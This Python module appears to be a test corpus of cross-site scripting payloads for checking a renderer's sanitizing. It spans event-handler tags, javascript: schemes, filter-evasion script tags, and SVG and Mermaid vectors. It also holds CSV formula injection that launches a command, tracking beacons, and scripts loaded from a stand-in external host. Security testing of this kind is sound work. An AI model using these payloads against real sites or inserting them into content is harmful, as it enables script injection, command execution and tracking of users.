"""Texts that try to run as code where they are shown, by class; each calls `alert` if it succeeds."""

from itertools import product

HIT = "alert(1)"
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onpointerenter",
    "onanimationstart",
    "onbegin",
    "oncopy",
    "onkeydown",
    "onwheel",
    "onbeforeinput",
    "onscroll",
    "onauxclick",
    "ontransitionend",
    "onpageshow",
    "onhashchange",
)
TAGS = (
    "<img src=x {}>",
    "<svg {}>",
    "<details open {}>x</details>",
    "<input autofocus {}>",
    "<video src=x {}></video>",
    "<body {}>",
    "<iframe {}></iframe>",
    "<a href=# {}>x</a>",
    "<marquee {}>x</marquee>",
    "<object data=x {}></object>",
)
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "java&#x0A;script:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript://%0aalert(1)",
    "//example.invalid/x.js",
)
LINKS = (
    "[x]({})",
    '[x]({} "title")',
    "![x]({})",
    "[x](<{}>)",
    "<{}>",
    "[x][r{n}]\n\n[r{n}]: {}",
    "[![x]({})]({})",
    '<a href="{}">x</a>',
    "<form action='{}'><button>x</button></form>",
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<base href="{}">',
    '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math><mtext href="{}">x</mtext></math>',
    '<svg><use href="{}"/></svg>',
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//example.invalid/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<table><script>alert(1)</script></table>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
)
SVG = tuple(
    f"<svg>{inner}</svg>"
    for inner in (
        "<animate onbegin=alert(1) attributeName=x dur=1s>",
        "<set onbegin=alert(1) attributeName=x>",
        "<foreignObject><img src=x onerror=alert(1)></foreignObject>",
        "<image href=x onerror=alert(1)>",
        "<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>",
        "<title><img src=x onerror=alert(1)></title>",
        "<style>*{background:url('javascript:alert(1)')}</style>",
        "<a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>",
        "<handler type='text/javascript' ev:event='load'>alert(1)</handler>",
        "<discard onbegin=alert(1)>",
    )
)
MERMAID = tuple(
    f"```mermaid\n{text}\n```"
    for text in (
        'graph TD\n  A["<img src=x onerror=alert(1)>"] --> B',
        'graph TD\n  A --> B\n  click A "javascript:alert(1)"',
        "graph TD\n  A --> B\n  click A call alert(1)",
        "graph TD\n  A --> B\n  click A alert",
        '%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n  A["<script>alert(1)</script>"]',
        '%%{init: {"themeCSS": "*{background:url(javascript:alert(1))}"}}%%\ngraph TD\n  A',
        '%%{init: {"fontFamily": "</style><img src=x onerror=alert(1)>"}}%%\ngraph TD\n  A',
        "sequenceDiagram\n  A->>B: <img src=x onerror=alert(1)>",
        "sequenceDiagram\n  participant A as <script>alert(1)</script>\n  A->>A: x",
        'classDiagram\n  class A["<img src=x onerror=alert(1)>"]',
        "gantt\n  title <img src=x onerror=alert(1)>\n  section s\n  t: a, 2026-01-01, 1d",
        'pie title <img src=x onerror=alert(1)>\n  "<script>alert(1)</script>" : 1',
        "stateDiagram-v2\n  [*] --> a\n  a : <img src=x onerror=alert(1)>",
        'graph TD\n  A["`<iframe srcdoc=<script>alert(1)</script>>`"]',
        "---\ntitle: <img src=x onerror=alert(1)>\n---\ngraph TD\n  A",
    )
)
MENTIONS = tuple(
    before + vector
    for before, vector in product(
        ("@", "@alice", "COE-1", "INC-1", "#"),
        (
            "<img src=x onerror=alert(1)>",
            '"onmouseover="alert(1)',
            "'><script>alert(1)</script>",
            "](javascript:alert(1))",
        ),
    )
)
FILE_NAMES = tuple(
    name + end
    for name, end in product(
        (
            '"><img src=x onerror=alert(1)>',
            "<svg onload=alert(1)>",
            "'-alert(1)-'",
            "../../<script>alert(1)</script>",
            "a](javascript:alert(1))",
        ),
        (".png", ".svg", ".html"),
    )
)
CSV = (
    '=HYPERLINK("javascript:alert(1)","x")',
    "=cmd|' /C calc'!A0",
    "+alert(1)",
    "@SUM(1+1)*<script>alert(1)</script>",
    "-<img src=x onerror=alert(1)>",
    '"</td><script>alert(1)</script>"',
    "<svg onload=alert(1)>,<b onclick=alert(1)>",
)
BREAKS = tuple(
    before + after
    for before, after in product(
        (
            "</textarea>",
            "</title>",
            "</script>",
            "-->",
            '"',
            "'",
            "`",
            "</style>",
            "]]>",
            "{{7*7}}",
            "{% debug %}",
            "&lt;",
            "%3C",
        ),
        ("<img src=x onerror=alert(1)>", " onfocus=alert(1) autofocus x=", "<script>alert(1)</script>", "${alert(1)}"),
    )
)
# Nothing runs, but whoever opens the page is told to a stranger.
BEACONS = tuple(
    text.replace("{}", "//example.invalid/seen.png")
    for text in (
        "![x](https:{})",
        "<img src=https:{}>",
        "<img srcset='https:{} 2x'>",
        "<video poster=https:{}></video>",
        "<p style='background:url(https:{})'>x</p>",
        "<style>@import 'https:{}'</style>",
        "<link rel=prefetch href=https:{}>",
        "<svg><image href='https:{}'/></svg>",
        "<audio src=https:{} autoplay></audio>",
        '```mermaid\ngraph TD\n  A["<img src=https:{}>"]\n```',
    )
)
CLASSES = {
    "tags": tuple(tag.format(f"{event}={HIT}") for tag, event in product(TAGS, EVENTS)),
    "links": tuple(
        link.replace("{n}", str(place)).replace("{}", scheme)
        for place, (link, scheme) in enumerate(product(LINKS, SCHEMES))
    ),
    "scripts": SCRIPTS,
    "svg": SVG,
    "mermaid": MERMAID,
    "mentions": MENTIONS,
    "file names": FILE_NAMES,
    "csv": CSV,
    "breaks": BREAKS,
    "beacons": BEACONS,
}
ALL = tuple(payload for payloads in CLASSES.values() for payload in payloads)
# For fields of one line.
SHORT = tuple(" ".join(payload.split()) for payload in ALL if len(payload) < 200 and "\x01" not in payload)


def sample(each, *, longest=100_000, place=0):
    """So many of every class, evenly apart, in one line each; another `place` begins elsewhere."""
    found = []
    for payloads in CLASSES.values():
        texts = [" ".join(text.split()) for text in payloads if "\x01" not in text]
        texts = [text for text in texts if len(text) <= longest]
        step = max(1, len(texts) // each)
        found += [texts[(place + number * step) % len(texts)] for number in range(min(each, len(texts)))]
    return found
